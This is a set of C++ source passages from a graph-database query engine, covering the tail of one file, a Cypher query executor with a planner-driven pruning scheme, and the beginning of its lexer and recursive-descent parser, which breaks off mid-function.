  return result_to_string(*this, db);
}

std::string QueryResult::to_string(const graph::FrozenGraph& db) const {
  return result_to_string(*this, db);
}

util::Result<QueryResult> run_query(const graph::GraphDb& db, std::string_view query_text) {
  return run_query_impl(db, query_text);
}

util::Result<QueryResult> run_query(const graph::FrozenGraph& db, std::string_view query_text) {
  return run_query_impl(db, query_text);
}

}  // namespace tabby::cypher
