// Evaluation of parsed queries (AST in ast.hpp, parser in parser.cpp,
// planner in planner.cpp) over either graph representation.
//
// Two execution modes share one enumerator:
//   - naive: left-to-right pattern matching, the reference semantics;
//   - planned: the same enumeration augmented with the Plan's prunings —
//     backward reachability filters from the anchor, per-segment distance
//     bounds, pushed-down WHERE conditions, and empty proofs.
// Every pruning skips only subtrees that provably emit zero rows, so the
// planned row stream is byte-identical (order included) to the naive one —
// the invariant the differential fuzz harness (tests/cypher_fuzz_test.cpp)
// locks down.
#include "cypher/cypher.hpp"

#include <algorithm>
#include <bit>
#include <map>
#include <optional>

#include "cypher/ast.hpp"
#include "cypher/planner.hpp"
#include "obs/obs.hpp"
#include "util/failpoint.hpp"
#include "util/memory_budget.hpp"
#include "util/strings.hpp"
#include "util/thread_pool.hpp"

namespace tabby::cypher {

namespace {

using graph::Edge;
using graph::EdgeId;
using graph::GraphDb;
using graph::NodeId;
using graph::Value;
using util::Error;
using util::Result;

// --- Representation adapters -------------------------------------------------
// The executor below is generic over the graph representation (mutable
// GraphDb or frozen CSR). These overloads are the full surface it needs;
// each pair must agree on both result *and* iteration order — the frozen
// side enumerates ascending dense ids / ascending edge indexes, which is
// exactly the live-element order the GraphDb side iterates.

std::string_view db_label(const GraphDb& db, NodeId id) { return db.node(id).label; }
std::string_view db_label(const graph::FrozenGraph& db, NodeId id) { return db.label(id); }

std::optional<Value> db_prop(const GraphDb& db, NodeId id, const std::string& key) {
  const Value* v = db.node(id).prop(key);
  if (v == nullptr) return std::nullopt;
  return *v;
}
std::optional<Value> db_prop(const graph::FrozenGraph& db, NodeId id, const std::string& key) {
  return db.node_prop(id, key);
}

std::string db_edge_type(const GraphDb& db, EdgeId id) { return db.edge(id).type; }
std::string db_edge_type(const graph::FrozenGraph& db, EdgeId id) {
  return std::string(db.edge_type_name(db.edge_type(id)));
}

template <typename Fn>
void db_scan_nodes(const GraphDb& db, Fn&& fn) {
  db.for_each_node([&](const graph::Node& node) { fn(node.id); });
}
template <typename Fn>
void db_scan_nodes(const graph::FrozenGraph& db, Fn&& fn) {
  for (NodeId id = 0; id < db.node_count(); ++id) fn(id);
}

/// Visits out-edges in insertion order, filtered to `type` when non-empty;
/// fn(edge, neighbor).
template <typename Fn>
void db_for_each_out(const GraphDb& db, NodeId n, const std::string& type, Fn&& fn) {
  for (EdgeId eid : db.out_edges(n)) {
    const Edge& e = db.edge(eid);
    if (!type.empty() && e.type != type) continue;
    fn(eid, e.to);
  }
}
template <typename Fn>
void db_for_each_out(const graph::FrozenGraph& db, NodeId n, const std::string& type, Fn&& fn) {
  if (type.empty()) {
    db.for_each_out_ordered(n, [&](std::uint32_t e, std::uint32_t nbr) {
      fn(EdgeId{e}, NodeId{nbr});
    });
    return;
  }
  auto t = db.edge_type_id(type);
  if (!t.has_value()) return;
  graph::AdjacencyView adj = db.out_edges_typed_view(n, *t);
  for (std::size_t k = 0; k < adj.size(); ++k) fn(EdgeId{adj.edge[k]}, NodeId{adj.nbr[k]});
}

template <typename Fn>
void db_for_each_in(const GraphDb& db, NodeId n, const std::string& type, Fn&& fn) {
  for (EdgeId eid : db.in_edges(n)) {
    const Edge& e = db.edge(eid);
    if (!type.empty() && e.type != type) continue;
    fn(eid, e.from);
  }
}
template <typename Fn>
void db_for_each_in(const graph::FrozenGraph& db, NodeId n, const std::string& type, Fn&& fn) {
  if (type.empty()) {
    db.for_each_in_ordered(n, [&](std::uint32_t e, std::uint32_t nbr) {
      fn(EdgeId{e}, NodeId{nbr});
    });
    return;
  }
  auto t = db.edge_type_id(type);
  if (!t.has_value()) return;
  graph::AdjacencyView adj = db.in_edges_typed_view(n, *t);
  for (std::size_t k = 0; k < adj.size(); ++k) fn(EdgeId{adj.edge[k]}, NodeId{adj.nbr[k]});
}

// --- Shared predicates -------------------------------------------------------

template <typename DB>
bool node_satisfies(const DB& db, NodeId id, const NodePattern& pattern) {
  if (!pattern.label.empty() && db_label(db, id) != pattern.label) return false;
  for (const auto& [key, value] : pattern.props) {
    std::optional<Value> actual = db_prop(db, id, key);
    if (!actual.has_value() || !graph::value_equals(*actual, value)) return false;
  }
  return true;
}

template <typename DB>
std::vector<NodeId> candidate_nodes(const DB& db, const NodePattern& pattern) {
  if (!pattern.label.empty() && !pattern.props.empty()) {
    std::vector<NodeId> hits = db.find_nodes(pattern.label, pattern.props[0].first,
                                             pattern.props[0].second);
    std::vector<NodeId> out;
    for (NodeId id : hits) {
      if (node_satisfies(db, id, pattern)) out.push_back(id);
    }
    return out;
  }
  std::vector<NodeId> out;
  if (!pattern.label.empty()) {
    for (NodeId id : db.nodes_with_label(pattern.label)) {
      if (node_satisfies(db, id, pattern)) out.push_back(id);
    }
    return out;
  }
  db_scan_nodes(db, [&](NodeId id) {
    if (node_satisfies(db, id, pattern)) out.push_back(id);
  });
  return out;
}

bool compare_values(const Value& lhs, CmpKind op, const Value& rhs) {
  const auto* ls = std::get_if<std::string>(&lhs);
  const auto* rs = std::get_if<std::string>(&rhs);
  switch (op) {
    case CmpKind::Eq:
      return graph::value_equals(lhs, rhs);
    case CmpKind::Ne:
      return !graph::value_equals(lhs, rhs);
    case CmpKind::Contains:
      return ls != nullptr && rs != nullptr && util::contains(*ls, *rs);
    case CmpKind::StartsWith:
      return ls != nullptr && rs != nullptr && util::starts_with(*ls, *rs);
    case CmpKind::EndsWith:
      return ls != nullptr && rs != nullptr && util::ends_with(*ls, *rs);
    default:
      break;
  }
  const auto* li = std::get_if<std::int64_t>(&lhs);
  const auto* ri = std::get_if<std::int64_t>(&rhs);
  if (li != nullptr && ri != nullptr) {
    switch (op) {
      case CmpKind::Lt: return *li < *ri;
      case CmpKind::Gt: return *li > *ri;
      case CmpKind::Le: return *li <= *ri;
      case CmpKind::Ge: return *li >= *ri;
      default: return false;
    }
  }
  if (ls != nullptr && rs != nullptr) {
    int c = ls->compare(*rs);
    switch (op) {
      case CmpKind::Lt: return c < 0;
      case CmpKind::Gt: return c > 0;
      case CmpKind::Le: return c <= 0;
      case CmpKind::Ge: return c >= 0;
      default: return false;
    }
  }
  return false;
}

/// True when node `v` satisfies every condition the plan pushed to pattern
/// position `j` (the exact checks emission would apply later).
template <typename DB>
bool passes_pushed(const DB& db, const Query& query, const Plan& plan, std::size_t j, NodeId v) {
  if (j >= plan.pushed.size()) return true;  // planning disabled: nothing pushed
  for (std::size_t c : plan.pushed[j]) {
    const Condition& cond = query.where[c];
    std::optional<Value> actual = db_prop(db, v, cond.key);
    if (!actual.has_value() || !compare_values(*actual, cond.op, cond.literal)) return false;
  }
  return true;
}

// --- Plan filters ------------------------------------------------------------

/// Dense node-id bitset sized to the representation's id capacity.
struct Bitset {
  std::vector<std::uint64_t> words;

  void resize(std::size_t bits) { words.assign((bits + 63) / 64, 0); }
  bool test(std::uint64_t i) const { return ((words[i >> 6] >> (i & 63)) & 1) != 0; }
  void set(std::uint64_t i) { words[i >> 6] |= std::uint64_t{1} << (i & 63); }
  bool none() const {
    for (std::uint64_t w : words) {
      if (w != 0) return false;
    }
    return true;
  }
  void or_with(const Bitset& other) {
    for (std::size_t i = 0; i < words.size(); ++i) words[i] |= other.words[i];
  }
  template <typename Fn>
  void for_each(Fn&& fn) const {
    for (std::size_t w = 0; w < words.size(); ++w) {
      std::uint64_t bits = words[w];
      while (bits != 0) {
        unsigned b = static_cast<unsigned>(std::countr_zero(bits));
        fn(static_cast<NodeId>(w * 64 + b));
        bits &= bits - 1;
      }
    }
  }
};

inline constexpr std::uint8_t kDistInf = 255;

/// Materialized backward reachability filters for a reversed plan:
/// `allowed[j]` over-approximates the nodes that can stand at pattern
/// position j (for j in [0, anchor]) in any complete match, and `dist[j]`
/// holds each node's minimum hop count across segment j into allowed[j+1]
/// (kDistInf = unreachable) for mid-expansion pruning. Over-approximation
/// (edge uniqueness is ignored) keeps every pruning sound.
struct FilterSet {
  bool active = false;
  std::size_t anchor = 0;
  std::vector<Bitset> allowed;
  std::vector<std::vector<std::uint8_t>> dist;
  util::ScopedCharge charge;
};

/// One backward step across segment `rel`: the set of position-j nodes with
/// a single rel-conforming hop into `cur`. Forward expansion follows
/// out-edges for `->` and in-edges for `<-`, so the reverse walk mirrors
/// them. Large levels fan out across the executor in fixed chunks; the
/// serial OR-merge of chunk bitsets is commutative, so the result is
/// identical at any concurrency.
template <typename DB>
Bitset backward_step(const DB& db, const Bitset& cur, const RelPattern& rel, std::size_t capacity,
                     util::Executor* executor) {
  std::vector<NodeId> members;
  cur.for_each([&](NodeId v) { members.push_back(v); });

  auto expand_into = [&](NodeId v, Bitset& out) {
    if (rel.direction >= 0) {
      db_for_each_in(db, v, rel.type, [&](EdgeId, NodeId u) { out.set(u); });
    }
    if (rel.direction <= 0) {
      db_for_each_out(db, v, rel.type, [&](EdgeId, NodeId u) { out.set(u); });
    }
  };

  constexpr std::size_t kChunk = 256;
  std::size_t chunks = (members.size() + kChunk - 1) / kChunk;
  Bitset out;
  out.resize(capacity);
  if (executor == nullptr || chunks <= 1) {
    for (NodeId v : members) expand_into(v, out);
    return out;
  }
  std::vector<Bitset> parts(chunks);
  util::run_indexed(executor, chunks, [&](std::size_t c) {
    parts[c].resize(capacity);
    std::size_t end = std::min(members.size(), (c + 1) * kChunk);
    for (std::size_t i = c * kChunk; i < end; ++i) expand_into(members[i], parts[c]);
  });
  for (const Bitset& part : parts) out.or_with(part);
  return out;
}

template <typename DB>
FilterSet build_filters(const DB& db, const Query& query, const Plan& plan,
                        const QueryOptions& options) {
  FilterSet filters;
  if (!plan.reverse || plan.always_empty) return filters;
  const std::size_t capacity = db.node_capacity();
  const auto& nodes = query.pattern.nodes;
  const auto& rels = query.pattern.rels;

  filters.active = true;
  filters.anchor = plan.anchor;
  filters.allowed.resize(plan.anchor + 1);
  filters.dist.resize(plan.anchor);
  std::size_t bytes =
      (plan.anchor + 1) * ((capacity + 63) / 64) * 8 + plan.anchor * capacity;
  filters.charge = util::ScopedCharge(options.memory, bytes);

  // Anchor candidates (already the pattern's cheapest position).
  Bitset& anchor_set = filters.allowed[plan.anchor];
  anchor_set.resize(capacity);
  for (NodeId id : candidate_nodes(db, nodes[plan.anchor])) {
    if (passes_pushed(db, query, plan, plan.anchor, id)) anchor_set.set(id);
  }

  // Walk backward: S_j from S_{j+1} across segment j. Per level k we hold
  // the *exact k-step walk set* L_k (not a first-reach frontier): a node
  // first reached at k may still need a longer walk to satisfy min_len, so
  // membership must union the full L_k for k in [min_len, max_len].
  for (std::size_t j = plan.anchor; j-- > 0;) {
    const RelPattern& rel = rels[j];
    std::vector<std::uint8_t>& dist = filters.dist[j];
    dist.assign(capacity, kDistInf);

    Bitset reach;
    reach.resize(capacity);
    Bitset level = filters.allowed[j + 1];  // L_0
    level.for_each([&](NodeId v) { dist[v] = 0; });
    if (rel.min_len <= 0) reach.or_with(level);
    for (int k = 1; k <= rel.max_len; ++k) {
      if (level.none()) break;
      level = backward_step(db, level, rel, capacity, options.executor);
      level.for_each([&](NodeId v) {
        if (dist[v] == kDistInf) dist[v] = static_cast<std::uint8_t>(k);
      });
      if (k >= rel.min_len) reach.or_with(level);
    }

    Bitset& allowed = filters.allowed[j];
    allowed.resize(capacity);
    reach.for_each([&](NodeId v) {
      if (node_satisfies(db, v, nodes[j]) && passes_pushed(db, query, plan, j, v)) {
        allowed.set(v);
      }
    });
  }
  return filters;
}

// --- Executor ----------------------------------------------------------------

template <typename DB>
class Executor {
 public:
  Executor(const DB& db, const Query& query, const Plan& plan, const FilterSet& filters,
           util::MemoryBudget* memory)
      : db_(db), query_(query), plan_(plan), filters_(filters), memory_(memory) {}

  std::uint64_t starts_pruned() const { return starts_pruned_; }
  std::uint64_t expansions_pruned() const { return expansions_pruned_; }

  QueryResult run() {
    QueryResult result;
    for (const ReturnItem& item : query_.items) {
      result.columns.push_back(item.key.empty() ? item.var : item.var + "." + item.key);
    }
    if (plan_.always_empty) return result;
    for (NodeId start : candidate_nodes(db_, query_.pattern.nodes[0])) {
      if (!accepts(0, start)) {
        ++starts_pruned_;
        continue;
      }
      graph::Path path;
      path.nodes.push_back(start);
      extend(0, path, result);
      if (result.rows.size() >= query_.limit) break;
    }
    util::maybe_release(memory_, rows_bytes_);
    rows_bytes_ = 0;
    return result;
  }

 private:
  /// Position gate: the filter bitsets where they exist (pushed conditions
  /// are baked in), the pushed conditions alone elsewhere. Always a sound
  /// over-approximation of "some complete match puts this node here".
  bool accepts(std::size_t position, NodeId v) const {
    if (filters_.active && position <= filters_.anchor) {
      return filters_.allowed[position].test(v);
    }
    return passes_pushed(db_, query_, plan_, position, v);
  }

  /// Recursively match relationship `rel_index` onwards; `path` covers node
  /// patterns [0, rel_index].
  void extend(std::size_t rel_index, graph::Path& path, QueryResult& result) {
    if (result.rows.size() >= query_.limit) return;
    if (rel_index == query_.pattern.rels.size()) {
      emit(path, result);
      return;
    }
    const RelPattern& rel = query_.pattern.rels[rel_index];
    const NodePattern& target = query_.pattern.nodes[rel_index + 1];
    expand_hops(rel, target, path, path.end(), 0, rel_index, result);
  }

  void expand_hops(const RelPattern& rel, const NodePattern& target, graph::Path& path,
                   NodeId frontier, int hops, std::size_t rel_index, QueryResult& result) {
    if (result.rows.size() >= query_.limit) return;
    // Distance bound: within a filtered segment, a frontier that cannot
    // reach allowed[rel_index + 1] inside the remaining hop budget heads a
    // subtree that emits nothing — skip it (acceptance included: dist 0 is
    // exactly membership in the target set).
    if (filters_.active && rel_index < filters_.anchor &&
        filters_.dist[rel_index][frontier] > rel.max_len - hops) {
      ++expansions_pruned_;
      return;
    }
    if (hops >= rel.min_len && node_satisfies(db_, frontier, target) &&
        accepts(rel_index + 1, frontier)) {
      extend(rel_index + 1, path, result);
    }
    if (hops >= rel.max_len) return;

    auto try_edge = [&](EdgeId eid, NodeId next) {
      if (std::find(path.edges.begin(), path.edges.end(), eid) != path.edges.end()) return;
      path.edges.push_back(eid);
      path.nodes.push_back(next);
      expand_hops(rel, target, path, next, hops + 1, rel_index, result);
      path.edges.pop_back();
      path.nodes.pop_back();
    };

    if (rel.direction >= 0) db_for_each_out(db_, frontier, rel.type, try_edge);
    if (rel.direction <= 0) db_for_each_in(db_, frontier, rel.type, try_edge);
  }

  void emit(const graph::Path& path, QueryResult& result) {
    std::map<std::string, Binding> bindings;
    bindings_from_path(path, bindings);

    if (!query_.pattern.path_var.empty()) {
      bindings[query_.pattern.path_var] = Binding::of_path(path);
    }
    for (const Condition& condition : query_.where) {
      auto it = bindings.find(condition.var);
      if (it == bindings.end() || it->second.kind != Binding::Kind::Node) return;
      std::optional<Value> actual = db_prop(db_, it->second.node, condition.key);
      if (!actual.has_value() || !compare_values(*actual, condition.op, condition.literal)) {
        return;
      }
    }
    std::vector<Binding> row;
    for (const ReturnItem& item : query_.items) {
      auto it = bindings.find(item.var);
      if (it == bindings.end()) {
        row.push_back(Binding::of_scalar(Value{}));
        continue;
      }
      if (item.key.empty()) {
        row.push_back(it->second);
      } else if (it->second.kind == Binding::Kind::Node) {
        std::optional<Value> v = db_prop(db_, it->second.node, item.key);
        row.push_back(Binding::of_scalar(v.has_value() ? *v : Value{}));
      } else {
        row.push_back(Binding::of_scalar(Value{}));
      }
    }
    // Meter accumulated rows (ledger only: pressure never drops answers).
    std::size_t delta = sizeof(row) + row.capacity() * sizeof(Binding);
    for (const Binding& b : row) {
      delta += (b.path.nodes.capacity() + b.path.edges.capacity()) * sizeof(std::uint64_t);
    }
    rows_bytes_ += delta;
    util::maybe_charge(memory_, delta);
    result.rows.push_back(std::move(row));
  }

  /// First and last pattern nodes always anchor the path ends; intermediate
  /// anchored vars of fixed-length segments are resolved positionally. For
  /// variable-length middles, intermediate vars bind to the segment end
  /// (matching Cypher, where inner var-length nodes are not addressable).
  void bindings_from_path(const graph::Path& path, std::map<std::string, Binding>& bindings) {
    const auto& nodes = query_.pattern.nodes;
    const auto& rels = query_.pattern.rels;
    if (!nodes.front().var.empty()) {
      bindings[nodes.front().var] = Binding::of_node(path.nodes.front());
    }
    if (nodes.size() == 1) return;
    // Walk forward assigning anchors: fixed-length segments advance exactly;
    // a variable-length segment consumes "the rest minus what later fixed
    // segments need" greedily. With at most one variable-length segment per
    // query (the common case for gadget hunting) this is exact.
    std::size_t fixed_after = 0;
    std::size_t var_segments = 0;
    for (const RelPattern& rel : rels) {
      if (rel.min_len == rel.max_len) {
        fixed_after += static_cast<std::size_t>(rel.min_len);
      } else {
        ++var_segments;
      }
    }
    std::size_t total_hops = path.edges.size();
    std::size_t variable_budget = total_hops - std::min(total_hops, fixed_after);
    std::size_t position = 0;
    for (std::size_t i = 0; i < rels.size(); ++i) {
      std::size_t hops = rels[i].min_len == rels[i].max_len
                             ? static_cast<std::size_t>(rels[i].min_len)
                             : (var_segments == 1 ? variable_budget : 0);
      position += hops;
      if (position >= path.nodes.size()) position = path.nodes.size() - 1;
      if (!nodes[i + 1].var.empty()) {
        bindings[nodes[i + 1].var] = Binding::of_node(path.nodes[position]);
      }
    }
    // The final pattern node always anchors the path end.
    if (!nodes.back().var.empty()) {
      bindings[nodes.back().var] = Binding::of_node(path.nodes.back());
    }
  }

  const DB& db_;
  const Query& query_;
  const Plan& plan_;
  const FilterSet& filters_;
  util::MemoryBudget* memory_;
  std::size_t rows_bytes_ = 0;
  std::uint64_t starts_pruned_ = 0;
  std::uint64_t expansions_pruned_ = 0;
};

// --- Rendering ---------------------------------------------------------------

template <typename DB>
std::string render_node(const DB& db, NodeId id) {
  auto text_prop = [&](const char* key) -> std::string {
    std::optional<Value> v = db_prop(db, id, key);
    const std::string* s = v.has_value() ? std::get_if<std::string>(&v.value()) : nullptr;
    return s != nullptr ? *s : std::string{};
  };
  std::string best = text_prop("SIGNATURE");
  if (best.empty()) best = text_prop("NAME");
  if (best.empty()) best = "#" + std::to_string(id);
  return "(" + std::string(db_label(db, id)) + " " + best + ")";
}

template <typename DB>
std::string result_to_string(const QueryResult& result, const DB& db) {
  std::string out = util::join(result.columns, " | ") + "\n";
  for (const auto& row : result.rows) {
    std::vector<std::string> cells;
    for (const Binding& binding : row) {
      switch (binding.kind) {
        case Binding::Kind::Node:
          cells.push_back(render_node(db, binding.node));
          break;
        case Binding::Kind::Relationship:
          cells.push_back("[" + db_edge_type(db, binding.edge) + "]");
          break;
        case Binding::Kind::Path: {
          std::string text;
          for (std::size_t i = 0; i < binding.path.nodes.size(); ++i) {
            if (i != 0) text += " -> ";
            text += render_node(db, binding.path.nodes[i]);
          }
          cells.push_back(std::move(text));
          break;
        }
        case Binding::Kind::Scalar:
          cells.push_back(graph::to_string(binding.scalar));
          break;
      }
    }
    out += util::join(cells, " | ") + "\n";
  }
  return out;
}

// --- Entry point -------------------------------------------------------------

StatsView make_stats_view(const GraphDb& db, graph::CardinalityStats& storage) {
  storage = db.cardinality();  // O(distinct names): exact and always available
  return StatsView{db.node_count(), db.edge_count(), &storage};
}
StatsView make_stats_view(const graph::FrozenGraph& db, graph::CardinalityStats& storage) {
  (void)storage;
  const auto& stats = db.stats();
  return StatsView{db.node_count(), db.edge_count(),
                   stats.has_value() ? &stats.value() : nullptr};
}

template <typename DB>
util::Result<QueryResult> run_query_impl(const DB& db, std::string_view query_text,
                                         const QueryOptions& options) {
  // Fault seam for the chaos harness: evaluation faults surface as the
  // structured error a malformed plan would produce, never as a crash.
  if (util::failpoint::poll("cypher.eval")) {
    return util::Error{"failpoint: injected query evaluation failure"};
  }
  auto query = parse_query(query_text);
  if (!query.ok()) return query.error();

  Plan plan;
  FilterSet filters;
  if (options.use_planner) {
    TABBY_SPAN("cypher.plan");
    // Planner fault seam: a planning failure must degrade to the naive
    // evaluator (same rows, slower), never a wrong answer or an error.
    if (util::failpoint::poll("cypher.plan")) {
      plan.reason = "failpoint: injected planner failure, fell back to naive evaluation";
      obs::counter_add("cypher.plan.fallback");
    } else {
      graph::CardinalityStats storage;
      plan = plan_query(query.value(), make_stats_view(db, storage));
      filters = build_filters(db, query.value(), plan, options);
      obs::counter_add(plan.mode == Plan::Mode::Planned ? "cypher.plan.planned"
                                                        : "cypher.plan.naive");
      std::uint64_t pushdowns = 0;
      for (const auto& p : plan.pushed) pushdowns += p.size();
      if (pushdowns > 0) obs::counter_add("cypher.plan.pushdown", pushdowns);
    }
  } else {
    plan.reason = "planning disabled (--no-plan)";
  }

  Executor<DB> executor(db, query.value(), plan, filters, options.memory);
  QueryResult result = executor.run();
  result.plan = plan.to_string(query.value());
  if (executor.starts_pruned() > 0) {
    obs::counter_add("cypher.plan.starts_pruned", executor.starts_pruned());
  }
  if (executor.expansions_pruned() > 0) {
    obs::counter_add("cypher.plan.expansions_pruned", executor.expansions_pruned());
  }
  return result;
}

}  // namespace

std::string QueryResult::to_string(const GraphDb& db) const {
  return result_to_string(*this, db);
}

std::string QueryResult::to_string(const graph::FrozenGraph& db) const {
  return result_to_string(*this, db);
}

util::Result<QueryResult> run_query(const graph::GraphDb& db, std::string_view query_text) {
  return run_query_impl(db, query_text, QueryOptions{});
}

util::Result<QueryResult> run_query(const graph::GraphDb& db, std::string_view query_text,
                                    const QueryOptions& options) {
  return run_query_impl(db, query_text, options);
}

util::Result<QueryResult> run_query(const graph::FrozenGraph& db, std::string_view query_text) {
  return run_query_impl(db, query_text, QueryOptions{});
}

util::Result<QueryResult> run_query(const graph::FrozenGraph& db, std::string_view query_text,
                                    const QueryOptions& options) {
  return run_query_impl(db, query_text, options);
}

}  // namespace tabby::cypher
