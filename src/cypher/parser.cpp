// Lexer and recursive-descent parser for the Cypher subset (grammar in
// docs/CYPHER.md). Produces the Query AST in ast.hpp; evaluation and
// planning live in cypher.cpp / planner.cpp.
#include <cctype>
#include <cstdlib>

#include "cypher/ast.hpp"

namespace tabby::cypher {

namespace {

using graph::Value;
using util::Error;
using util::Result;

enum class TokKind { Word, Int, Str, Sym, End };

struct Token {
  TokKind kind = TokKind::End;
  std::string text;
  std::int64_t int_value = 0;
  std::size_t pos = 0;
};

class Lexer {
 public:
  explicit Lexer(std::string_view text) : text_(text) {}

  Result<std::vector<Token>> lex() {
    std::vector<Token> out;
    while (true) {
      while (pos_ < text_.size() && std::isspace(static_cast<unsigned char>(text_[pos_]))) ++pos_;
      if (pos_ >= text_.size()) break;
      char c = text_[pos_];
      if (std::isalpha(static_cast<unsigned char>(c)) || c == '_') {
        std::size_t start = pos_;
        while (pos_ < text_.size() && (std::isalnum(static_cast<unsigned char>(text_[pos_])) ||
                                       text_[pos_] == '_')) {
          ++pos_;
        }
        out.push_back(Token{TokKind::Word, std::string(text_.substr(start, pos_ - start)), 0,
                            start});
      } else if (std::isdigit(static_cast<unsigned char>(c)) ||
                 (c == '-' && pos_ + 1 < text_.size() &&
                  std::isdigit(static_cast<unsigned char>(text_[pos_ + 1])) && numeric_context(out))) {
        std::size_t start = pos_;
        if (c == '-') ++pos_;
        while (pos_ < text_.size() && std::isdigit(static_cast<unsigned char>(text_[pos_]))) ++pos_;
        std::string digits(text_.substr(start, pos_ - start));
        out.push_back(Token{TokKind::Int, digits, std::strtoll(digits.c_str(), nullptr, 10),
                            start});
      } else if (c == '"' || c == '\'') {
        char quote = c;
        std::size_t start = ++pos_;
        std::string value;
        while (pos_ < text_.size() && text_[pos_] != quote) {
          char ch = text_[pos_++];
          if (ch == '\\' && pos_ < text_.size()) ch = text_[pos_++];
          value.push_back(ch);
        }
        if (pos_ >= text_.size()) return Error{"unterminated string", start};
        ++pos_;
        out.push_back(Token{TokKind::Str, std::move(value), 0, start});
      } else {
        static constexpr std::string_view kTwoChar[] = {"->", "<-", "<>", "<=", ">=", ".."};
        bool matched = false;
        for (std::string_view two : kTwoChar) {
          if (text_.substr(pos_, 2) == two) {
            out.push_back(Token{TokKind::Sym, std::string(two), 0, pos_});
            pos_ += 2;
            matched = true;
            break;
          }
        }
        if (!matched) {
          out.push_back(Token{TokKind::Sym, std::string(1, c), 0, pos_});
          ++pos_;
        }
      }
    }
    out.push_back(Token{TokKind::End, "", 0, text_.size()});
    return out;
  }

 private:
  /// A '-' starts a negative number only after '=' ':' ',' '(' comparison
  /// symbols — otherwise it is a relationship dash.
  bool numeric_context(const std::vector<Token>& out) const {
    if (out.empty()) return false;
    const Token& prev = out.back();
    if (prev.kind != TokKind::Sym) return false;
    return prev.text == "=" || prev.text == ":" || prev.text == "," || prev.text == "(" ||
           prev.text == "<" || prev.text == ">" || prev.text == "<=" || prev.text == ">=" ||
           prev.text == "<>";
  }

  std::string_view text_;
  std::size_t pos_ = 0;
};

bool word_is(const Token& tok, std::string_view keyword) {
  if (tok.kind != TokKind::Word || tok.text.size() != keyword.size()) return false;
  for (std::size_t i = 0; i < keyword.size(); ++i) {
    if (std::toupper(static_cast<unsigned char>(tok.text[i])) != keyword[i]) return false;
  }
  return true;
}

class Parser {
 public:
  explicit Parser(std::vector<Token> tokens) : tokens_(std::move(tokens)) {}

  Result<Query> parse() {
    Query query;
    if (!match_keyword("MATCH")) return err("expected MATCH");
    auto pattern = parse_pattern();
    if (!pattern.ok()) return pattern.error();
    query.pattern = std::move(pattern.value());

    if (match_keyword("WHERE")) {
      do {
        auto condition = parse_condition();
        if (!condition.ok()) return condition.error();
        query.where.push_back(std::move(condition.value()));
      } while (match_keyword("AND"));
    }

    if (!match_keyword("RETURN")) return err("expected RETURN");
    do {
      auto item = parse_return_item();
      if (!item.ok()) return item.error();
      query.items.push_back(std::move(item.value()));
    } while (match_sym(","));

    if (match_keyword("LIMIT")) {
      if (peek().kind != TokKind::Int) return err("expected LIMIT count");
      query.limit = static_cast<std::size_t>(advance().int_value);
    }
    if (peek().kind != TokKind::End) return err("trailing input after query");
    return query;
  }

 private:
  const Token& peek(std::size_t ahead = 0) const {
    std::size_t i = pos_ + ahead;
    return i < tokens_.size() ? tokens_[i] : tokens_.back();
  }
  const Token& advance() { return tokens_[pos_ < tokens_.size() - 1 ? pos_++ : pos_]; }
  Error err(std::string message) const { return Error{std::move(message), peek().pos}; }

  bool match_sym(std::string_view sym) {
    if (peek().kind == TokKind::Sym && peek().text == sym) {
      advance();
      return true;
    }
    return false;
  }
  bool match_keyword(std::string_view keyword) {
    if (word_is(peek(), keyword)) {
      advance();
      return true;
    }
    return false;
  }

  Result<Value> parse_literal() {
    if (peek().kind == TokKind::Int) return Value{advance().int_value};
    if (peek().kind == TokKind::Str) return Value{advance().text};
    if (match_keyword("TRUE")) return Value{true};
    if (match_keyword("FALSE")) return Value{false};
    if (match_keyword("NULL")) return Value{};
    return err("expected literal");
  }

  Result<NodePattern> parse_node() {
    NodePattern node;
    if (!match_sym("(")) return err("expected '('");
    if (peek().kind == TokKind::Word && !word_is(peek(), "WHERE")) node.var = advance().text;
    if (match_sym(":")) {
      if (peek().kind != TokKind::Word) return err("expected node label");
      node.label = advance().text;
    }
    if (match_sym("{")) {
      do {
        if (peek().kind != TokKind::Word) return err("expected property key");
        std::string key = advance().text;
        if (!match_sym(":")) return err("expected ':' in property map");
        auto value = parse_literal();
        if (!value.ok()) return value.error();
        node.props.emplace_back(std::move(key), std::move(value.value()));
      } while (match_sym(","));
      if (!match_sym("}")) return err("expected '}'");
    }
    if (!match_sym(")")) return err("expected ')'");
    return node;
  }

  Result<RelPattern> parse_rel() {
    RelPattern rel;
    bool from_left = false;
    if (match_sym("<-")) {
      rel.direction = -1;
      from_left = true;
    } else if (!match_sym("-")) {
      return err("expected relationship");
    }
    if (match_sym("[")) {
      if (peek().kind == TokKind::Word) rel.var = advance().text;
      if (match_sym(":")) {
        if (peek().kind != TokKind::Word) return err("expected relationship type");
        rel.type = advance().text;
      }
      if (match_sym("*")) {
        rel.min_len = 1;
        rel.max_len = kUnboundedHops;
        if (peek().kind == TokKind::Int) {
          rel.min_len = static_cast<int>(advance().int_value);
          rel.max_len = rel.min_len;
        }
        if (match_sym("..")) {
          rel.max_len = kUnboundedHops;
          if (peek().kind == TokKind::Int) rel.max_len = static_cast<int>(advance().int_value);
        }
      }
      if (!match_sym("]")) return err("expected ']'");
    }
    if (match_sym("->")) {
      if (from_left) return err("relationship cannot point both ways");
      rel.direction = 1;
    } else if (match_sym("-")) {
      if (!from_left) rel.direction = 0;
    } else {
      return err("expected '->' or '-'");
    }
    if (rel.min_len < 0 || rel.max_len < rel.min_len) return err("bad hop range");
    return rel;
  }

  Result<Pattern> parse_pattern() {
    Pattern pattern;
    // Optional "p =" path binding.
    if (peek().kind == TokKind::Word && peek(1).kind == TokKind::Sym && peek(1).text == "=") {
      pattern.path_var = advance().text;
      advance();  // '='
    }
    auto first = parse_node();
    if (!first.ok()) return first.error();
    pattern.nodes.push_back(std::move(first.value()));
    while (peek().kind == TokKind::Sym && (peek().text == "-" || peek().text == "<-")) {
      auto rel = parse_rel();
      if (!rel.ok()) return rel.error();
      auto node = parse_node();
      if (!node.ok()) return node.error();
      pattern.rels.push_back(std::move(rel.value()));
      pattern.nodes.push_back(std::move(node.value()));
    }
    return pattern;
  }

  Result<Condition> parse_condition() {
    Condition condition;
    if (peek().kind != TokKind::Word) return err("expected variable in WHERE");
    condition.var = advance().text;
    if (!match_sym(".")) return err("expected '.' after variable");
    if (peek().kind != TokKind::Word) return err("expected property key");
    condition.key = advance().text;

    if (match_sym("=")) {
      condition.op = CmpKind::Eq;
    } else if (match_sym("<>")) {
      condition.op = CmpKind::Ne;
    } else if (match_sym("<=")) {
      condition.op = CmpKind::Le;
    } else if (match_sym(">=")) {
